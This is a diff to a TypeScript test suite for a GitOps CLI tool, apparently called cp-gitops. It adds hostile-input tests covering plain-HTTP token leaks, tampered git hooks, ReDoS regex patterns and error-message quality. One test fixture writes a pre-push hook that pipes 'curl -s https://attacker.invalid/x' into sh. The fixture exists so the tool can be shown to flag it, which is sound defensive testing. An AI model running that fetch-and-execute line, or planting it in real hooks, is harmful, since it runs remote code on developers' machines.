@@ -1,9 +1,10 @@
 import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
 import { spawn, spawnSync } from 'node:child_process';
+import { createHash } from 'node:crypto';
 import { createServer } from 'node:http';
 import { createServer as createNetServer, type AddressInfo, type Socket } from 'node:net';
 import { hostname } from 'node:os';
-import { dirname, join } from 'node:path';
+import { basename, dirname, join } from 'node:path';
 import { expect } from 'chai';
 import { CLI_BIN, expectExit, makeTempDir, removeTempDirs, runCli, type CliResult } from '../helpers/cli.js';
 import { headerRecorder } from '../helpers/header-recorder.js';
@@ -112,6 +113,21 @@ describe('hostile input (through bin/)', function () {
       expect(seen.map((headers) => headers.authorization ?? null)).to.deep.equal(seen.map(() => null));
       expectNoPassword(result);
     });
+
+    for (const [flag, repository, urlFlag, tokenVariable] of [
+      ['--github', 'acme/p', '--github-api-url', 'GITHUB_TOKEN'],
+      ['--gitlab', 'acme/kafka/p', '--gitlab-url', 'GITLAB_TOKEN'],
+    ] as const) {
+      it(`security: ${flag} with a plain-HTTP API off this machine (${urlFlag} http://…) is refused before any request, nothing written`, async () => {
+        const target = join(makeTempDir('cp-gitops-hostile-http-api-'), 'p');
+        const result = await runCli(['init', target, flag, repository, urlFlag, 'http://git.example.invalid/api'], { env: { ...NEUTRAL_ENV, [tokenVariable]: PASSWORD } });
+        expectExit(result, 2);
+        expect(result.stderr).to.match(new RegExp(`${urlFlag} is plain HTTP \\(git\\.example\\.invalid\\): the token would be sent in clear`));
+        expect(result.stderr).to.match(/hint: use the instance's https:\/\/ URL/);
+        expect(existsSync(target), 'nothing written').to.equal(false);
+        expectNoPassword(result);
+      });
+    }
   });
 
   /** A clone of the repository with `files` written (and committed when `commit`), validated through bin/. */
@@ -198,9 +214,29 @@ describe('hostile input (through bin/)', function () {
       );
       expectExit(result, 1);
       expect(result.stdout).to.match(/node_modules\/\.bin\/cp-gitops:1:1: error: policy\/committed-dependencies/);
-      expect(result.stdout).to.match(/\.githooks\/pre-push:1:1: error: policy\/generated-hook-changed/);
+      expect(result.stdout).to.match(/\.githooks\/pre-push:2:1: error: policy\/generated-hook-changed/);
       expect(result.stdout).to.match(/\.github\/workflows\/validate\.yaml:1:1: error: policy\/generated-hook-changed/);
       expect(result.stdout).to.match(/suppression\/missing-reason: .*policy\/generated-hook-changed/);
+    });
+
+    it('security: a hook and workflow rewritten together with their checksum record (and drift/stale silenced) are still errors', async () => {
+      const hostile = { '.githooks/pre-push': '#!/bin/sh\n# cp-gitops:ignore drift/stale a local tweak\ncurl -s https://attacker.invalid/x | sh\n', '.github/workflows/validate.yaml': 'on: pull_request\n# cp-gitops:ignore drift/stale a local tweak\njobs: {}\n' };
+      const { result } = await validateWith(hostile, {
+        commit: true,
+        // The record entries now vouch for the hostile content: the record is repository content too.
+        edit: (dir) => {
+          const records = join(dir, '.cp-gitops', 'generated');
+          for (const name of readdirSync(records)) {
+            const entry = readFileSync(join(records, name), 'utf8');
+            const path = Object.keys(hostile).find((file) => entry.endsWith(`  ${file}\n`));
+            if (path) writeFileSync(join(records, name), `${createHash('sha256').update(hostile[path as keyof typeof hostile]).digest('hex')}  ${path}\n`);
+          }
+        },
+      });
+      expectExit(result, 1);
+      expect(result.stdout).to.match(/\.githooks\/pre-push:2:1: error: policy\/generated-hook-changed: \.githooks\/pre-push differs from what cp-gitops generates/);
+      expect(result.stdout).to.match(/\.github\/workflows\/validate\.yaml:\d+:1: error: policy\/generated-hook-changed/);
+      expect(result.stdout).to.match(/fix: restore it as cp-gitops generates it: run cp-gitops generate/);
     });
 
     it('security: the pre-push hook never runs a committed node_modules/.bin/cp-gitops', async () => {
@@ -358,28 +394,114 @@ describe('hostile input (through bin/)', function () {
     const widgetCrd = (pattern: string) =>
       `apiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\nmetadata:\n  name: widgets.example.com\nspec:\n  group: example.com\n  names: {kind: Widget, plural: widgets}\n  scope: Namespaced\n  versions:\n    - name: v1\n      served: true\n      storage: true\n      schema:\n        openAPIV3Schema:\n          type: object\n          properties:\n            spec:\n              type: object\n              properties:\n                name: {type: string, pattern: '${pattern}'}\n`;
 
-    it('security: schemas import refuses a catastrophic pattern (^(a+)+$), writes nothing', async () => {
+    const importInto = async (pattern: string) => {
       const dir = join(makeTempDir('cp-gitops-hostile-redos-'), 'p');
       gitRun(['clone', '-q', repo, dir], work);
       const crd = join(dirname(dir), 'crd.yaml');
-      writeFileSync(crd, widgetCrd('^(a+)+$'));
-      const result = await runCli(['schemas', 'import', crd, '--dir', dir], { env: NEUTRAL_ENV });
-      expectExit(result, 1);
-      expect(result.stderr).to.match(/pattern "\^\(a\+\)\+\$" repeats a repeated group.*ReDoS/);
-      expect(gitRun(['status', '--porcelain', '--untracked-files=all'], dir)).to.equal('');
+      writeFileSync(crd, widgetCrd(pattern));
+      return { dir, crd, result: await runCli(['schemas', 'import', crd, '--dir', dir], { env: NEUTRAL_ENV }) };
+    };
+
+    it('security: an imported ^(a+)+$ runs on RE2: a 50,000-character near match is checked at once, through the compiled-code cache too', async () => {
+      const { dir, result } = await importInto('^(a+)+$');
+      expectExit(result, 0);
+      writeFileSync(join(dir, 'overlays', 'dev', 'widget.yaml'), `apiVersion: example.com/v1\nkind: Widget\nmetadata:\n  name: w\nspec:\n  name: ${'a'.repeat(50_000)}!\n`);
+      addResource(dir, 'dev', 'widget.yaml');
+      // A cache of its own: the first run compiles and caches the validator's code, the second evaluates that code.
+      const env = { ...NEUTRAL_ENV, CP_GITOPS_CACHE_DIR: join(dirname(dir), 'cache') };
+      for (const run of ['compiled', 'cached']) {
+        const validate = await runCli(['validate', dir], { env });
+        expectExit(validate, 1);
+        expect(validate.stdout, run).to.match(/overlays\/dev\/widget\.yaml:6:\d+: error: schema\/resource: Widget "w": spec\.name must be a string matching \^\(a\+\)\+\$/);
+        expect(readdirSync(join(dirname(dir), 'cache', 'schemas')), run).to.have.length.greaterThan(0);
+      }
+      writeFileSync(join(dir, 'overlays', 'dev', 'widget.yaml'), `apiVersion: example.com/v1\nkind: Widget\nmetadata:\n  name: w\nspec:\n  name: ${'a'.repeat(50_000)}\n`);
+      const valid = await runCli(['validate', dir], { env });
+      expect(valid.stdout).to.include('overlays/dev/kustomization.yaml').and.not.to.include('widget.yaml');
     });
 
-    it('security: a catastrophic pattern committed under .cp-gitops/schemas is not used, and validate ends quickly', async () => {
-      const schema = { type: 'object', properties: { spec: { type: 'object', properties: { name: { type: 'string', pattern: '^(a+)+$' } } } } };
-      const started = Date.now();
+    const unsupported: [string, string, RegExp][] = [
+      ['a lookbehind', '^(?<!tmp-)[a-z]+$', /a lookbehind/],
+      ['a lookahead', '^(?!tmp-)[a-z]+$', /a lookahead/],
+      ['a backreference', '^(a)\\1$', /a backreference/],
+    ];
+    for (const [title, pattern, feature] of unsupported) {
+      it(`schemas import refuses ${title} (RE2 cannot run it), naming the file and the pattern's JSON pointer; writes nothing`, async () => {
+        const { dir, crd, result } = await importInto(pattern);
+        expectExit(result, 1);
+        expect(result.stderr).to.include(`${basename(crd)}: the pattern at /spec/versions/0/schema/openAPIV3Schema/properties/spec/properties/name/pattern`);
+        expect(result.stderr).to.match(feature);
+        expect(result.stderr).to.match(/hint: .*then import again/);
+        expect(gitRun(['status', '--porcelain', '--untracked-files=all'], dir)).to.equal('');
+      });
+    }
+
+    it('a committed schema with a lookahead is not used: a schema/imported error names the file, the pointer and the fix', async () => {
+      const schema = { type: 'object', properties: { spec: { type: 'object', properties: { name: { type: 'string', pattern: '^(?!tmp-)' } } } } };
       const { result } = await validateWith({
         '.cp-gitops/schemas/example.com_widget_v1.json': JSON.stringify(schema),
-        'overlays/dev/widget.yaml': `apiVersion: example.com/v1\nkind: Widget\nmetadata:\n  name: w\nspec:\n  name: ${'a'.repeat(40)}!\n`,
+        'overlays/dev/widget.yaml': 'apiVersion: example.com/v1\nkind: Widget\nmetadata:\n  name: w\nspec:\n  name: x\n',
       }, { edit: (dir) => addResource(dir, 'dev', 'widget.yaml') });
       expectExit(result, 1);
-      expect(result.stdout).to.match(/\.cp-gitops\/schemas\/example\.com_widget_v1\.json:1:1: error: schema\/imported: .*ReDoS/);
-      expect(Date.now() - started).to.be.below(60_000);
+      expect(result.stdout).to.match(/\.cp-gitops\/schemas\/example\.com_widget_v1\.json:1:1: error: schema\/imported: .*the pattern at \/properties\/spec\/properties\/name\/pattern \("\^\(\?!tmp-\)"\) uses a lookahead.*fix: /);
     });
+  });
+
+  describe('messages for bad input name the file, the place and the fix', () => {
+    // One row per bad input: what is run, what the message must locate (a file with line:column or a key
+    // path, or the flag and its value for a command line), and the hint line every row must have.
+    const crd = (spec: string) => `apiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\nmetadata:\n  name: xs.x.io\nspec:\n${spec}`;
+    const inputs: Record<string, string> = {
+      'bad.json': '{\n  "type": "object",\n  oops\n}\n',
+      'bad.yaml': 'a: [\nb: 1\n',
+      'nogroup.yaml': crd('  names: {kind: X}\n'),
+      'nokind.yaml': crd('  group: x.io\n  names: {plural: xs}\n'),
+      'noschema.yaml': crd('  group: x.io\n  names: {kind: X}\n  versions:\n    - name: v1\n'),
+      'two.yaml': `${crd('  group: x.io\n  names: {kind: Y}\n  versions:\n    - name: v1\n      schema: {openAPIV3Schema: {type: object}}\n')}---\n${crd("  group: x.io\n  names: {kind: X}\n  versions:\n    - name: v1\n      schema: {openAPIV3Schema: {type: object, properties: {id: {type: string, pattern: '(a)\\1'}}}}\n")}`,
+      'widget.json': '{"type": "object", "properties": {}}\n',
+    };
+    const editModel = (edit: (text: string) => string) => async () => {
+      const dir = join(makeTempDir('cp-gitops-hostile-msg-'), 'p');
+      gitRun(['clone', '-q', repo, dir], work);
+      writeFileSync(join(dir, 'cp-gitops.yaml'), edit(readFileSync(join(dir, 'cp-gitops.yaml'), 'utf8')));
+      return runCli(['generate'], { cwd: dir, env: NEUTRAL_ENV });
+    };
+    const inTemp = (args: string[]) => () => runCli(args, { cwd: makeTempDir('cp-gitops-hostile-msg-'), env: NEUTRAL_ENV });
+    const importing = (file: string) => async () => {
+      const dir = makeTempDir('cp-gitops-hostile-msg-');
+      gitRun(['clone', '-q', repo, join(dir, 'p')], work);
+      writeFileSync(join(dir, file), inputs[file]!);
+      return runCli(['schemas', 'import', file, '--dir', 'p'], { cwd: dir, env: NEUTRAL_ENV });
+    };
+    const rows: { input: string; run: () => Promise<CliResult>; exit: number; place: RegExp }[] = [
+      { input: 'schemas import of broken JSON', run: importing('bad.json'), exit: 1, place: /^error: bad\.json:3:3: not valid JSON/m },
+      { input: 'schemas import of broken YAML', run: importing('bad.yaml'), exit: 1, place: /^error: bad\.yaml:2:1: not valid YAML/m },
+      { input: 'a CRD without spec.group', run: importing('nogroup.yaml'), exit: 1, place: /^error: nogroup\.yaml: a CustomResourceDefinition without spec\.group$/m },
+      { input: 'a CRD without spec.names.kind', run: importing('nokind.yaml'), exit: 1, place: /^error: nokind\.yaml: a CustomResourceDefinition without spec\.names\.kind$/m },
+      { input: 'a CRD without a schema', run: importing('noschema.yaml'), exit: 1, place: /^error: noschema\.yaml: CustomResourceDefinition X has no schema at spec\.versions\[\]\.schema\.openAPIV3Schema/m },
+      { input: 'a backreference in the second document of a CRD file', run: importing('two.yaml'), exit: 1, place: /^error: two\.yaml \(document 2\): the pattern at \/spec\/versions\/0\/schema\/openAPIV3Schema\/properties\/id\/pattern/m },
+      { input: 'a catalog schema not named <kind>_<version>.json', run: importing('widget.json'), exit: 1, place: /^error: widget\.json: a catalog schema must be named <kind>_<version>\.json/m },
+      { input: 'a YAML syntax error in cp-gitops.yaml', run: editModel((text) => text.replace('environments:', 'environments:\n  bogus: [')), exit: 1, place: /^error: \S*cp-gitops\.yaml:\d+:\d+: YAML: /m },
+      { input: 'an unknown key in cp-gitops.yaml', run: editModel((text) => text.replace('environments:', 'colour: blue\nenvironments:')), exit: 1, place: /^error: \S*cp-gitops\.yaml:\d+:1: unknown key "colour"/m },
+      { input: 'an environment listed twice in --envs', run: inTemp(['init', 'p', '--envs', 'dev,dev']), exit: 2, place: /"dev" is listed twice in --envs/ },
+      { input: 'a --cp-version that is no version', run: inTemp(['init', 'p', '--cp-version', 'x']), exit: 2, place: /invalid --cp-version "x"/ },
+      { input: 'an --operator-version that is no version', run: inTemp(['init', 'p', '--operator-version', 'y']), exit: 2, place: /invalid --operator-version "y"/ },
+      { input: 'a --chart-version that is no version', run: inTemp(['init', 'p', '--chart-version', 'z']), exit: 2, place: /invalid --chart-version "z"/ },
+      { input: 'a --control-center-version that is no version', run: inTemp(['init', 'p', '--control-center-version', 'w']), exit: 2, place: /invalid --control-center-version "w"/ },
+      { input: 'a --repo-url with a space', run: inTemp(['init', 'p', '--repo-url', 'https://git.example.org/a b.git']), exit: 2, place: /invalid --repo-url "https:\/\/git\.example\.org\/a b\.git"/ },
+      { input: 'a --cluster that is no URL', run: inTemp(['init', 'p', '--cluster', 'nope']), exit: 2, place: /invalid --cluster "nope"/ },
+      { input: 'add-component --replicas 0', run: () => cli(['add-component', '--topic', 't1', '--partitions', '3', '--replicas', '0', '--env', 'dev', '--dry-run']), exit: 2, place: /--replicas must be a positive integer, not 0/ },
+      { input: 'config set without key=value', run: () => cli(['config', 'kafka', 'set', 'noequals', '--env', 'dev', '--dry-run']), exit: 2, place: /"noequals" is not key=value/ },
+    ];
+    for (const { input, run, exit, place } of rows) {
+      it(`${input}: says where, and how to fix it`, async () => {
+        const result = await run();
+        expectExit(result, exit);
+        expect(result.stderr).to.match(place);
+        expect(result.stderr).to.match(/^hint: \S.{10,}/m);
+        expect(result.stderr).not.to.match(/internal error|\n\s+at /);
+      });
+    }
   });
 
   describe('data loss and interruptions', () => {
